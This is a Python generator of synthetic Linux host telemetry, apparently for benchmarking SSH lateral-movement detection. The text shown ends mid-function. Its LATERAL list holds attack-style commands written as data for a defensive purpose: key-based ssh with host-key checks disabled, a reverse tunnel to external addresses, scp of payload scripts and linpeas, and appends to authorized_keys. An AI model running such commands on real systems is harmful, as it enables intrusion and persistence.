#!/usr/bin/env python3
"""Synthetic ECS telemetry from a fleet of Linux hosts, for Trailhound's benchmark.

    python bench/generate.py --events 1000000 --out bench/data/events_1m.ndjson [--seed 1]

One JSON document per line (NDJSON), nested objects, deterministic for a seed
(same seed and options -> byte-identical file), written as a stream.

Shape (see bench/README.md for the details):

* about 70% process starts, 20% file creation/change/deletion, 6% network
  connections, 4% sshd authentications;
* 200 hosts; most run Elastic Defend (``agent.type: "endpoint"``), some run
  Auditbeat (``agent.type: "auditbeat"``, auditd-style actions, no
  ``process.command_line``, no leaders); sshd logins come from Filebeat's
  ``system.auth`` data set;
* 24 h of ``@timestamp`` (ISO-8601, ms, ``Z``), non-decreasing;
* attack material: ~0.4% of process events are SSH lateral-movement commands,
  ~0.2% of file events are lone ``authorized_keys`` writes, and ``--scenarios``
  (default 50) injected "ssh with a key / StrictHostKeyChecking=no, then an
  authorized_keys change" pairs: 60% on the same host 30-240 s apart (true
  positives), 20% too far apart (330-1800 s), 20% with the second event on
  another host.

A JSON sidecar ``<out>.meta.json`` records the options, the counts per kind and
the injected scenarios.  ``--flatten-ratio R`` writes a fraction R of the events
with flattened dotted keys (``"process.name": ...``) instead of nested objects.
"""

from __future__ import annotations

import argparse
import calendar
import heapq
import os
import random
import sys
import time

import orjson

ECS_VERSION = "8.11.0"
DEFAULT_START = "2025-03-11T00:00:00Z"

# --------------------------------------------------------------------------------------
# vocabularies
# --------------------------------------------------------------------------------------

ROLES = [  # (role, number of hosts per 200)
    ("web", 40), ("app", 40), ("db", 16), ("k8s-node", 40), ("ci-runner", 20),
    ("cache", 10), ("mq", 8), ("bastion", 4), ("build", 8), ("monitor", 6), ("dev", 8),
]
ROLE_INDEX = {name: i for i, (name, _) in enumerate(ROLES)}
SITES = ["fra1", "ams2", "lon1", "nyc3", "sfo2"]
HUMANS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
          "mallory", "oscar", "peggy", "rupert", "sybil", "trent", "victor", "walter"]
SERVICE_USERS = {
    "web": ["www-data", "deploy"], "app": ["app", "deploy"], "db": ["postgres", "mysql"],
    "k8s-node": ["root", "kubelet"], "ci-runner": ["gitlab-runner", "ci"], "cache": ["redis"],
    "mq": ["rabbitmq", "kafka"], "bastion": ["root"], "build": ["jenkins", "builder"],
    "monitor": ["prometheus", "nagios"], "dev": ["dev"],
}
EXTERNAL_IPS = ["185.220.101.%d" % i for i in (4, 17, 33, 46)] + [
    "45.95.147.236", "194.26.29.113", "61.177.172.140", "218.92.0.118", "103.99.0.122",
    "141.98.11.71", "92.255.85.37", "183.81.169.238", "2.57.122.196", "80.94.95.116",
    "89.248.163.200", "205.210.31.18", "162.142.125.221", "167.94.138.44"]
BRUTE_USERS = ["root", "admin", "test", "ubuntu", "oracle", "user", "postgres", "git", "ftpuser", "pi", "guest"]
PUBLIC_DESTS = ["151.101.1.69", "140.82.121.4", "140.82.121.6", "104.16.132.229", "34.117.59.81",
                "52.216.8.35", "13.107.42.14", "91.189.91.39", "185.125.190.36", "8.8.8.8", "1.1.1.1",
                "142.250.185.78", "20.205.243.166", "3.5.140.2"]


def _weighted_table(items, size=1000):
    """Expand (value, weight) pairs into a lookup list so choice is table[int(r*len)]."""
    total = float(sum(w for _, w in items))
    out = []
    acc = 0.0
    for value, w in items:
        acc += w
        while len(out) < round(acc / total * size):
            out.append(value)
    return out


# --------------------------------------------------------------------------------------
# command vocabulary: builders return (executable, args)
# --------------------------------------------------------------------------------------

DIRS = ["/var/log", "/etc", "/tmp", "/opt/app", "/srv/www", "/var/lib", "/home/{u}", "/home/{u}/src",
        "/usr/local/bin", "/var/cache/apt", "/proc/self", "/run"]
FILES = ["/var/log/syslog", "/etc/hosts", "/etc/resolv.conf", "/etc/passwd", "/proc/meminfo", "/proc/loadavg",
         "/var/log/nginx/access.log", "/var/log/auth.log", "/etc/os-release", "/home/{u}/.bashrc",
         "/opt/app/config.yaml", "/etc/nginx/nginx.conf", "/var/log/kern.log", "/etc/fstab", "/proc/cpuinfo"]
SERVICES = ["nginx", "postgresql", "redis-server", "docker", "containerd", "kubelet", "ssh", "cron",
            "rsyslog", "node_exporter", "filebeat", "elastic-agent", "gitlab-runner", "app", "chrony"]
URLS = ["https://api.github.com/repos/org/app/releases/latest", "http://127.0.0.1:8080/healthz",
        "http://localhost:9100/metrics", "https://registry.npmjs.org/left-pad", "https://pypi.org/simple/requests/",
        "http://169.254.169.254/latest/meta-data/instance-id", "https://objects.githubusercontent.com/x/y.tar.gz",
        "https://download.docker.com/linux/ubuntu/gpg", "http://10.20.0.15:9200/_cluster/health"]
PATTERNS = ["ERROR", "error", "Failed password", "timeout", "OOM", "panic", "listen", "PermitRootLogin", "ssl_"]
NAMESPACES = ["default", "kube-system", "monitoring", "payments", "ingress-nginx", "logging"]
PY_SCRIPTS = ["/opt/app/manage.py", "/usr/local/bin/healthcheck.py", "/opt/monitor/collect.py",
              "/usr/lib/python3/dist-packages/landscape/sysinfo.py", "-m pip", "/home/{u}/src/tools/report.py"]


def _fmt(s, u):
    if "{" not in s:
        return s
    if u == "root":
        s = s.replace("/home/{u}", "/root")
    return s.replace("{u}", u)


def c_ls(r, u):
    return "/usr/bin/ls", ["ls", r.choice(["-la", "-l", "-lh", "--color=auto", "-1"]), _fmt(r.choice(DIRS), u)]


def c_cat(r, u):
    return "/usr/bin/cat", ["cat", _fmt(r.choice(FILES), u)]


def c_grep(r, u):
    f = _fmt(r.choice(FILES), u)
    return "/usr/bin/grep", ["grep", r.choice(["-i", "-c", "-E", "-n", "-v"]), r.choice(PATTERNS), f]


def c_ps(r, u):
    return "/usr/bin/ps", r.choice([["ps", "aux"], ["ps", "-ef"], ["ps", "-eo", "pid,ppid,cmd,%mem,%cpu", "--sort=-%mem"]])


def c_awk(r, u):
    return "/usr/bin/awk", ["awk", r.choice(["{print $1}", "{print $NF}", "-F:", "NR>1{s+=$2}END{print s}"]),
                            _fmt(r.choice(FILES), u)]


def c_sed(r, u):
    return "/usr/bin/sed", ["sed", "-n", "%d,%dp" % (r.randint(1, 50), r.randint(51, 400)), _fmt(r.choice(FILES), u)]


def c_python(r, u):
    s = _fmt(r.choice(PY_SCRIPTS), u)
    return "/usr/bin/python3", ["python3"] + s.split(" ") + r.choice([[], ["--quiet"], ["-v"], ["--once"]])


def c_curl(r, u):
    return "/usr/bin/curl", r.choice([
        ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", r.choice(URLS)],
        ["curl", "-fsSL", r.choice(URLS)],
        ["curl", "-s", "--max-time", "5", r.choice(URLS)]])


def c_wget(r, u):
    return "/usr/bin/wget", ["wget", "-q", r.choice(URLS), "-O", "/tmp/dl.%04x" % r.getrandbits(16)]


def c_systemctl(r, u):
    return "/usr/bin/systemctl", ["systemctl", r.choice(["status", "is-active", "show", "restart", "reload"]),
                                  r.choice(SERVICES) + ".service"]


def c_journalctl(r, u):
    return "/usr/bin/journalctl", ["journalctl", "-u", r.choice(SERVICES), "--since", "1 hour ago", "--no-pager"]


def c_runparts(r, u):
    return "/usr/bin/run-parts", ["run-parts", "--report", r.choice(["/etc/cron.hourly", "/etc/cron.daily"])]


def c_git(r, u):
    return "/usr/bin/git", r.choice([["git", "pull", "--ff-only"], ["git", "fetch", "origin"], ["git", "status", "--porcelain"],
                                     ["git", "rev-parse", "HEAD"], ["git", "log", "-1", "--format=%H"]])


def c_docker(r, u):
    return "/usr/bin/docker", r.choice([["docker", "ps", "--format", "{{.Names}}"], ["docker", "inspect", "%012x" % r.getrandbits(48)],
                                        ["docker", "pull", "registry.internal:5000/app:%d" % r.randint(100, 999)],
                                        ["docker", "image", "prune", "-f"]])


def c_kubectl(r, u):
    return "/usr/local/bin/kubectl", ["kubectl", "get", r.choice(["pods", "nodes", "svc", "deploy"]), "-n", r.choice(NAMESPACES), "-o", "wide"]


def c_apt(r, u):
    return "/usr/bin/apt-get", r.choice([["apt-get", "update", "-qq"], ["apt-get", "install", "-y", "--no-install-recommends", "jq"],
                                         ["apt-get", "-s", "upgrade"]])


def c_find(r, u):
    return "/usr/bin/find", ["find", r.choice(["/var/log", "/tmp", "/var/cache", "/home/" + u]), "-name",
                             r.choice(["*.gz", "*.tmp", "*.log.[0-9]", "core.*"]), "-mtime", "+%d" % r.randint(1, 30), "-delete"]


def c_tar(r, u):
    return "/usr/bin/tar", ["tar", "-czf", "/backup/%s-%d.tar.gz" % (r.choice(["www", "etc", "db", "home"]), r.randint(1, 31)),
                            r.choice(["/var/www", "/etc", "/var/lib/postgresql", "/home"])]


def c_gzip(r, u):
    return "/usr/bin/gzip", ["gzip", "-9", "/var/log/%s.log.1" % r.choice(["syslog", "auth", "nginx/access", "app/app"])]


def c_small(r, u):
    return r.choice([("/usr/bin/date", ["date", "+%s"]), ("/usr/bin/hostname", ["hostname", "-f"]), ("/usr/bin/uname", ["uname", "-a"]),
                     ("/usr/bin/id", ["id", "-u"]), ("/usr/bin/whoami", ["whoami"]), ("/usr/bin/sleep", ["sleep", str(r.randint(1, 60))]),
                     ("/usr/bin/uptime", ["uptime"]), ("/usr/bin/df", ["df", "-h", "/"]), ("/usr/bin/free", ["free", "-m"]),
                     ("/usr/bin/wc", ["wc", "-l", _fmt(r.choice(FILES), u)]), ("/usr/bin/tail", ["tail", "-n", "100", _fmt(r.choice(FILES), u)]),
                     ("/usr/bin/head", ["head", "-c", "512", _fmt(r.choice(FILES), u)]), ("/usr/bin/env", ["env"]),
                     ("/usr/bin/mkdir", ["mkdir", "-p", "/tmp/work.%04x" % r.getrandbits(16)]),
                     ("/usr/bin/rm", ["rm", "-f", "/tmp/tmp.%06x" % r.getrandbits(24)]),
                     ("/usr/bin/pgrep", ["pgrep", "-f", r.choice(SERVICES)])])


def c_shell(r, u):
    inner = r.choice(["test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                      "/usr/lib/sysstat/debian-sa1 1 1", "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
                      "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
                      "cd /opt/app && ./bin/worker --queue default", "echo $PATH", "ulimit -n",
                      "find /tmp -type f -atime +10 -delete", "systemctl is-active --quiet nginx || systemctl restart nginx"])
    sh = r.choice([("/bin/sh", "sh"), ("/usr/bin/bash", "bash"), ("/usr/bin/dash", "dash")])
    return sh[0], [sh[1], "-c", inner]


def c_node(r, u):
    return "/usr/bin/node", ["node", r.choice(["/srv/www/server.js", "/opt/app/dist/index.js", "--max-old-space-size=2048", "/usr/lib/node_modules/npm/bin/npm-cli.js"])]


def c_java(r, u):
    return "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["java", "-Xmx2g", "-jar", r.choice(["/opt/app/app.jar", "/usr/share/jenkins/jenkins.war", "/opt/kafka/libs/kafka.jar"])]


def c_psql(r, u):
    return "/usr/bin/psql", ["psql", "-U", "postgres", "-d", r.choice(["app", "billing", "postgres"]), "-c", r.choice(["SELECT 1", "VACUUM ANALYZE", "SELECT count(*) FROM pg_stat_activity"])]


def c_chmod(r, u):
    return r.choice([("/usr/bin/chmod", ["chmod", r.choice(["600", "644", "755", "+x"]), "/opt/app/bin/run.sh"]),
                     ("/usr/bin/chown", ["chown", "-R", "%s:%s" % (u, u), "/srv/www/releases"])])


def c_cp(r, u):
    return r.choice([("/usr/bin/cp", ["cp", "-a", "/etc/nginx/nginx.conf", "/etc/nginx/nginx.conf.bak"]),
                     ("/usr/bin/mv", ["mv", "/tmp/upload.%04x" % r.getrandbits(16), "/srv/www/uploads/"])])


def c_sudo(r, u):
    return "/usr/bin/sudo", ["sudo", "-n", "systemctl", "restart", r.choice(SERVICES)]


def c_ssh_benign(r, u):
    """ssh/scp/sftp used the ordinary way (no identity file, no host-key override)."""
    host = "10.%d.%d.%d" % (r.randint(0, 40), r.randint(0, 255), r.randint(1, 254))
    x = r.random()
    if x < 0.30:
        return "/usr/bin/ssh", ["ssh", "git@github.com", "git-upload-pack 'org/app.git'"]
    if x < 0.45:
        return "/usr/bin/ssh", ["ssh", "-p", "2222", "deploy@" + host, "uptime"]
    if x < 0.60:
        return "/usr/bin/ssh", ["ssh", "-o", "ConnectTimeout=5", "-o", "BatchMode=yes", "backup@" + host, "true"]
    if x < 0.70:
        return "/usr/bin/ssh", ["ssh", "-T", "git@gitlab.internal"]
    if x < 0.73:  # smart-card key: upper-case -I, which `process.args : "-i"` matches (`:` is case-insensitive)
        return "/usr/bin/ssh", ["ssh", "-I", "/usr/lib/x86_64-linux-gnu/opensc-pkcs11.so", u + "@" + host]
    if x < 0.85:
        return "/usr/bin/scp", ["scp", "-q", "/backup/db-%d.tar.gz" % r.randint(1, 31), "backup@" + host + ":/srv/backup/"]
    if x < 0.93:
        return "/usr/bin/sftp", ["sftp", "-b", "/etc/backup/sftp.batch", "backup@" + host]
    return "/usr/bin/ssh-keygen", ["ssh-keygen", "-lf", "/etc/ssh/ssh_host_ed25519_key.pub"]


# SSH lateral movement (attack material); weights sum to 100
def _tgt(r):
    return "10.%d.%d.%d" % (r.randint(0, 40), r.randint(0, 255), r.randint(1, 254))


KEYS = ["/tmp/id_rsa", "/tmp/.k", "/dev/shm/.key", "/home/{u}/.ssh/id_ed25519", "/root/.ssh/id_rsa", "/var/tmp/.id", "./id_rsa"]
LATERAL = [
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-i", _fmt(r.choice(KEYS), u), r.choice(["root", u, "ubuntu", "admin"]) + "@" + _tgt(r)]), 26),
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-i", _fmt(r.choice(KEYS), u), "-o", "StrictHostKeyChecking=no",
                                    r.choice(["root", u, "ubuntu"]) + "@" + _tgt(r)]), 16),
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                                    r.choice(["root", u]) + "@" + _tgt(r)]), 12),
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-D", "1080", "-N", "-f", r.choice(["root", u]) + "@" + _tgt(r)]), 12),
    (lambda r, u: ("/usr/bin/scp", ["scp", "-i", _fmt(r.choice(KEYS), u), r.choice(["/tmp/payload.sh", "/tmp/.x", "./linpeas.sh", "/dev/shm/agent"]),
                                    r.choice(["root", u]) + "@" + _tgt(r) + ":/tmp"]), 14),
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-i", _fmt(r.choice(KEYS), u), "-o", "StrictHostKeyChecking=no", "root@" + _tgt(r),
                                    "mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys"]), 6),
    (lambda r, u: ("/usr/bin/sftp", ["sftp", "-o", "StrictHostKeyChecking=no", r.choice(["root", u]) + "@" + _tgt(r)]), 5),
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-i" + _fmt(r.choice(KEYS), u), "-p", "22", "root@" + _tgt(r)]), 4),
    (lambda r, u: ("/usr/bin/ssh", ["ssh", "-fNR", "2222:localhost:22", "-o", "StrictHostKeyChecking=no", "tunnel@" + r.choice(EXTERNAL_IPS)]), 5),
]

BENIGN = [  # (builder, weight)
    (c_shell, 16), (c_small, 16), (c_ls, 5), (c_cat, 5), (c_grep, 6), (c_ps, 3), (c_awk, 3), (c_sed, 2),
    (c_python, 6), (c_curl, 5), (c_wget, 1), (c_systemctl, 4), (c_journalctl, 1), (c_runparts, 2), (c_git, 3),
    (c_docker, 3), (c_kubectl, 2), (c_apt, 1), (c_find, 2), (c_tar, 1), (c_gzip, 1), (c_node, 2), (c_java, 1),
    (c_psql, 1), (c_chmod, 1), (c_cp, 1), (c_sudo, 1), (c_ssh_benign, 2),
]

PARENTS = [  # (executable, args) of the parent, by session kind
    ("/usr/bin/bash", ["-bash"]), ("/usr/bin/bash", ["bash"]), ("/usr/sbin/cron", ["/usr/sbin/CRON", "-f"]),
    ("/usr/lib/systemd/systemd", ["/sbin/init"]), ("/usr/bin/containerd-shim-runc-v2", ["containerd-shim-runc-v2", "-namespace", "moby"]),
    ("/usr/bin/zsh", ["-zsh"]), ("/usr/bin/gitlab-runner", ["gitlab-runner", "run"]), ("/usr/bin/python3", ["python3", "/opt/app/worker.py"]),
]

FILE_PATHS = [  # (template, writer executable, types allowed)
    ("/var/log/nginx/access.log", "/usr/sbin/nginx", "c"), ("/var/log/syslog", "/usr/sbin/rsyslogd", "c"),
    ("/var/log/auth.log", "/usr/sbin/rsyslogd", "c"), ("/var/lib/apt/lists/partial/archive.ubuntu.com_ubuntu_dists_jammy_InRelease", "/usr/lib/apt/methods/http", "nd"),
    ("/tmp/tmp{r}", "/usr/bin/python3", "ncd"), ("/tmp/sh-thd.{r}", "/usr/bin/bash", "nd"), ("/home/{u}/.bash_history", "/usr/bin/bash", "c"),
    ("/home/{u}/.cache/pip/http/{r}.body", "/usr/bin/python3", "nd"), ("/var/lib/docker/overlay2/{r}/diff/app/cache.db", "/usr/bin/dockerd", "ncd"),
    ("/var/spool/cron/crontabs/{u}", "/usr/bin/crontab", "c"), ("/run/app/worker.pid", "/usr/bin/python3", "nd"),
    ("/opt/app/releases/{n}/app.jar", "/usr/bin/cp", "n"), ("/var/lib/postgresql/14/main/pg_wal/{r}", "/usr/lib/postgresql/14/bin/postgres", "ncd"),
    ("/home/{u}/.ssh/known_hosts", "/usr/bin/ssh", "c"), ("/home/{u}/.viminfo", "/usr/bin/vim.basic", "nc"),
    ("/etc/nginx/sites-enabled/app.conf", "/usr/bin/vim.basic", "c"), ("/var/cache/apt/archives/jq_1.6-2.1ubuntu3_amd64.deb", "/usr/lib/apt/methods/http", "nd"),
    ("/usr/lib/python3/dist-packages/__pycache__/{r}.cpython-310.pyc", "/usr/bin/python3", "n"), ("/var/log/app/app.log", "/usr/bin/node", "c"),
    ("/srv/www/uploads/{r}.png", "/usr/bin/node", "nd"), ("/etc/ssh/sshd_config", "/usr/bin/vim.basic", "c"),
    ("/home/{u}/.ssh/authorized_keys.bak", "/usr/bin/cp", "n"), ("/var/lib/kubelet/pods/{r}/volumes/config", "/usr/bin/kubelet", "ncd"),
]
AK_WRITERS = [("/usr/bin/bash", ["bash"]), ("/usr/bin/tee", ["tee", "-a"]), ("/usr/sbin/sshd", ["sshd"]),
              ("/usr/bin/vim.basic", ["vim"]), ("/usr/bin/cp", ["cp"]), ("/usr/bin/python3", ["python3"])]
NET = [  # (process executable, dest port, transport, direction, external?)
    ("/usr/bin/curl", 443, "tcp", "egress", True), ("/usr/bin/python3", 443, "tcp", "egress", True),
    ("/usr/lib/systemd/systemd-resolved", 53, "udp", "egress", False), ("/usr/sbin/sshd", 22, "tcp", "ingress", False),
    ("/usr/sbin/nginx", 443, "tcp", "ingress", True), ("/usr/bin/node", 5432, "tcp", "egress", False),
    ("/usr/lib/postgresql/14/bin/postgres", 5432, "tcp", "ingress", False), ("/usr/bin/redis-server", 6379, "tcp", "ingress", False),
    ("/usr/bin/elastic-agent", 9200, "tcp", "egress", False), ("/usr/sbin/chronyd", 123, "udp", "egress", True),
    ("/usr/bin/ssh", 22, "tcp", "egress", False), ("/usr/bin/java", 9092, "tcp", "egress", False),
    ("/usr/bin/dockerd", 5000, "tcp", "egress", False), ("/usr/bin/kubelet", 6443, "tcp", "egress", False),
]


# --------------------------------------------------------------------------------------
# fleet
# --------------------------------------------------------------------------------------

class Host:
    __slots__ = ("name", "ip", "role", "agent", "host_doc", "agent_doc", "users", "sessions", "next_pid", "ak_users")


def build_fleet(r, n_hosts):
    hosts = []
    role_table = _weighted_table(ROLES, 200)
    counters = {}
    for i in range(n_hosts):
        role = role_table[i * len(role_table) // n_hosts]
        counters[role] = counters.get(role, 0) + 1
        h = Host()
        site = SITES[i % len(SITES)]
        h.name = "%s-%02d.%s" % (role, counters[role], site)
        h.role = role
        h.ip = "10.%d.%d.%d" % (SITES.index(site) + 1, ROLE_INDEX[role], 10 + i % 240)
        h.agent = "auditbeat" if (i % 7 == 3) else "endpoint"  # ~1 host in 7 runs Auditbeat
        h.host_doc = {"name": h.name, "ip": [h.ip], "os": {"type": "linux"}}
        h.agent_doc = {"type": h.agent}
        humans = r.sample(HUMANS, 3)
        svc = SERVICE_USERS[role]
        h.users = svc + humans
        h.ak_users = humans + ["root"]
        h.next_pid = r.randint(2000, 40000)
        # sessions: (weight, user, cwd, parent_exe, parent_args, entry_leader_doc, session_leader_doc)
        sess = []
        init_leader = {"pid": 1, "entry_meta": {"type": "init"}}
        for k in range(6):
            kind = ("cron", "service", "service", "ssh", "ssh", "container" if role in ("k8s-node", "ci-runner", "app") else "ssh")[k]
            if kind == "cron":
                user = "root"
                pexe, pargs = PARENTS[2]
                el = init_leader
                sl = {"pid": r.randint(300, 1500), "name": "cron"}
                cwd = "/root"
                w = 30
            elif kind == "service":
                user = r.choice(svc)
                pexe, pargs = (PARENTS[3] if k == 1 else PARENTS[7] if role in ("app", "web") else PARENTS[6] if role == "ci-runner" else PARENTS[3])
                el = init_leader
                sl = {"pid": r.randint(500, 3000), "name": pexe.rsplit("/", 1)[-1]}
                cwd = r.choice(["/", "/opt/app", "/srv/www", "/var/lib/" + user])
                w = 25
            elif kind == "container":
                user = "root"
                pexe, pargs = PARENTS[4]
                cpid = r.randint(3000, 9000)
                el = {"pid": cpid, "entry_meta": {"type": "container"}}
                sl = {"pid": cpid, "name": "containerd-shim-runc-v2"}
                cwd = "/app"
                w = 20
            else:
                user = r.choice(humans)
                pexe, pargs = r.choice([PARENTS[0], PARENTS[0], PARENTS[5]])
                spid = r.randint(10000, 60000)
                el = {"pid": spid,
                      "entry_meta": {"type": "sshd", "source": {"ip": "10.%d.%d.%d" % (r.randint(0, 9), r.randint(0, 255), r.randint(1, 254))}}}
                sl = {"pid": spid + 2, "name": pargs[0].lstrip("-")}
                cwd = "/home/" + user
                w = 12
            sess.append((w, user, cwd, pexe, pargs, el, sl))
        # expand weights into a table of 100
        h.sessions = _weighted_table([(s, s[0]) for s in sess], 100)
        hosts.append(h)
    return hosts


# --------------------------------------------------------------------------------------
# event builders
# --------------------------------------------------------------------------------------

ECS_DOC = {"version": ECS_VERSION}
AGENT_FILEBEAT = {"type": "filebeat"}


class Gen:
    def __init__(self, seed, n_hosts):
        self.r = random.Random(seed)
        self.hosts = build_fleet(self.r, n_hosts)
        self.benign = _weighted_table(BENIGN, 1000)
        self.lateral = _weighted_table(LATERAL, 100)
        self.file_paths = FILE_PATHS
        self.auth_burst = None  # (ip, remaining)

    def _pid(self, h):
        h.next_pid += self.r.randint(1, 40)
        if h.next_pid > 4194000:
            h.next_pid = 3000
        return h.next_pid

    def _eid(self):
        return "%016x" % self.r.getrandbits(64)

    def process(self, ts, h, cmd=None):
        r = self.r
        sess = h.sessions[int(r.random() * 100)]
        _, user, cwd, pexe, pargs, el, sl = sess
        if cmd is None:
            exe, args = self.benign[int(r.random() * 1000)](r, user)
        else:
            exe, args = cmd
        pid = self._pid(h)
        name = args[0].rsplit("/", 1)[-1]
        ppid = pid - r.randint(1, 30)
        pname = pexe.rsplit("/", 1)[-1]
        if h.agent == "endpoint":
            proc = {"pid": pid, "name": name, "executable": exe, "args": args, "args_count": len(args),
                    "command_line": " ".join(args), "working_directory": cwd,
                    "parent": {"pid": ppid, "name": pname, "executable": pexe, "args": pargs},
                    "user": {"name": user}, "entry_leader": el, "session_leader": sl}
            return {"@timestamp": ts, "agent": h.agent_doc, "ecs": ECS_DOC,
                    "event": {"id": self._eid(), "category": ["process"], "type": ["start"],
                              "action": "exec", "dataset": "endpoint.events.process"},
                    "host": h.host_doc, "process": proc}
        # Auditbeat (auditd module): no command_line, parent pid only, no leaders
        proc = {"pid": pid, "name": name, "executable": exe, "args": args, "args_count": len(args),
                "working_directory": cwd, "parent": {"pid": ppid}}
        return {"@timestamp": ts, "agent": h.agent_doc, "ecs": ECS_DOC,
                "event": {"id": self._eid(), "category": ["process"], "type": ["start"],
                          "action": "executed", "outcome": "success", "module": "auditd"},
                "host": h.host_doc, "process": proc,
                "user": {"name": user, "id": "0" if user == "root" else str(1000 + HUMANS.index(user) if user in HUMANS else 110)},
                "auditd": {"sequence": r.getrandbits(24), "result": "success", "summary": {"how": exe}}}

    def file(self, ts, h, path=None, ftype=None, writer=None):
        r = self.r
        if path is None:
            tmpl, wexe, allowed = self.file_paths[int(r.random() * len(self.file_paths))]
            if "{" in tmpl:
                tmpl = _fmt(tmpl, h.users[int(r.random() * len(h.users))]).replace(
                    "{r}", "%08x" % r.getrandbits(32)).replace("{n}", str(r.randint(100, 999)))
            path = tmpl
            a = allowed[int(r.random() * len(allowed))]
            ftype = {"n": "creation", "c": "change", "d": "deletion"}[a]
            wargs = [wexe.rsplit("/", 1)[-1]]
        else:
            wexe, wargs = writer
        fname = path.rsplit("/", 1)[-1]
        dot = fname.rfind(".")
        f = {"path": path, "name": fname}
        if dot > 0:
            f["extension"] = fname[dot + 1:]
        pid = self._pid(h)
        user = h.users[int(r.random() * len(h.users))]
        if h.agent == "endpoint":
            action = {"creation": "creation", "change": "modification", "deletion": "deletion"}[ftype]
            return {"@timestamp": ts, "agent": h.agent_doc, "ecs": ECS_DOC,
                    "event": {"id": self._eid(), "category": ["file"], "type": [ftype],
                              "action": action, "dataset": "endpoint.events.file"},
                    "host": h.host_doc, "file": f,
                    "process": {"pid": pid, "name": wargs[0], "executable": wexe},
                    "user": {"name": user}}
        action = {"creation": "opened-file", "change": "wrote-to-file", "deletion": "deleted"}[ftype]
        return {"@timestamp": ts, "agent": h.agent_doc, "ecs": ECS_DOC,
                "event": {"id": self._eid(), "category": ["file"], "type": [ftype],
                          "action": action, "outcome": "success", "module": "auditd"},
                "host": h.host_doc, "file": f, "process": {"pid": pid, "name": wargs[0], "executable": wexe},
                "user": {"name": user}}

    def ak_write(self, ts, h, ftype=None):
        r = self.r
        u = r.choice(h.ak_users)
        path = "/root/.ssh/authorized_keys" if u == "root" else "/home/%s/.ssh/authorized_keys" % u
        if ftype is None:
            ftype = "change" if r.random() < 0.75 else "creation"
        return self.file(ts, h, path, ftype, r.choice(AK_WRITERS))

    def network(self, ts, h):
        r = self.r
        exe, port, transport, direction, external = NET[int(r.random() * len(NET))]
        peer = PUBLIC_DESTS[int(r.random() * len(PUBLIC_DESTS))] if external else "10.%d.%d.%d" % (
            r.randint(1, 5), r.randint(0, 200), r.randint(1, 254))
        eph = r.randint(32768, 60999)
        if direction == "egress":
            src, dst = {"ip": h.ip, "port": eph}, {"ip": peer, "port": port}
        else:
            src, dst = {"ip": peer, "port": eph}, {"ip": h.ip, "port": port}
        name = exe.rsplit("/", 1)[-1]
        pid = self._pid(h)
        if h.agent == "endpoint":
            action = "connection_attempted" if direction == "egress" else "connection_accepted"
            return {"@timestamp": ts, "agent": h.agent_doc, "ecs": ECS_DOC,
                    "event": {"id": self._eid(), "category": ["network"], "type": ["start"],
                              "action": action, "dataset": "endpoint.events.network"},
                    "host": h.host_doc,
                    "source": src, "destination": dst,
                    "network": {"transport": transport, "type": "ipv4", "direction": direction},
                    "process": {"pid": pid, "name": name, "executable": exe}}
        return {"@timestamp": ts, "agent": h.agent_doc, "ecs": ECS_DOC,
                "event": {"id": self._eid(), "category": ["network"], "type": ["connection", "start"],
                          "action": "connected-to" if direction == "egress" else "accepted-connection-from",
                          "outcome": "success", "module": "auditd"},
                "host": h.host_doc, "source": src, "destination": dst,
                "network": {"transport": transport, "direction": direction},
                "process": {"pid": pid, "name": name, "executable": exe}}

    def auth(self, ts, h):
        r = self.r
        # bursts of failures from one external address (brute force), otherwise ordinary logins
        if self.auth_burst is None and r.random() < 0.02:
            self.auth_burst = [r.choice(EXTERNAL_IPS), r.randint(5, 40), h]
        if self.auth_burst is not None:
            ip, left, bh = self.auth_burst
            h = bh
            self.auth_burst[1] -= 1
            if self.auth_burst[1] <= 0:
                self.auth_burst = None
            user = r.choice(BRUTE_USERS)
            outcome, method, cat = "failure", "password", ["authentication"]
            ssh_event = "Failed" if r.random() < 0.8 else "Invalid"
        else:
            ip = "10.%d.%d.%d" % (r.randint(0, 9), r.randint(0, 255), r.randint(1, 254))
            user = h.users[int(r.random() * len(h.users))]
            if r.random() < 0.93:
                outcome, method, cat, ssh_event = "success", r.choice(["publickey", "publickey", "password"]), ["authentication", "session"], "Accepted"
            else:
                outcome, method, cat, ssh_event = "failure", "password", ["authentication"], "Failed"
        port = r.randint(1024, 65535)
        return {"@timestamp": ts, "agent": AGENT_FILEBEAT, "ecs": ECS_DOC,
                "event": {"id": self._eid(), "category": cat, "type": ["info"], "action": "ssh_login",
                          "outcome": outcome, "module": "system", "dataset": "system.auth"},
                "host": h.host_doc,
                "process": {"name": "sshd", "pid": r.randint(1000, 99999)},
                "source": {"ip": ip, "port": port, "address": ip},
                "user": {"name": user}, "related": {"ip": [ip], "user": [user]},
                "system": {"auth": {"ssh": {"event": ssh_event, "method": method}}}}


def flatten(doc, prefix="", out=None):
    if out is None:
        out = {}
    for k, v in doc.items():
        key = prefix + k
        if isinstance(v, dict):
            flatten(v, key + ".", out)
        else:
            out[key] = v
    return out


# --------------------------------------------------------------------------------------
# main loop
# --------------------------------------------------------------------------------------

def generate(out_path, n_events, seed=1, hours=24.0, n_hosts=200, n_scenarios=50, flatten_ratio=0.0,
             start=DEFAULT_START, lateral_rate=0.004, ak_rate=0.002, progress=True):
    g = Gen(seed, n_hosts)
    r = g.r
    hosts = g.hosts
    n_hosts = len(hosts)
    start_ms = calendar.timegm(time.strptime(start, "%Y-%m-%dT%H:%M:%SZ")) * 1000
    span_ms = hours * 3600 * 1000.0
    mean_gap = span_ms / max(n_events, 1)
    frac = flatten_ratio

    # scenario starts: slot indices spread over 1%..92% of the stream (so follow-ups fit in the day)
    n_scenarios = min(n_scenarios, max(0, n_events // 200))
    scen_slots = {}
    if n_scenarios:
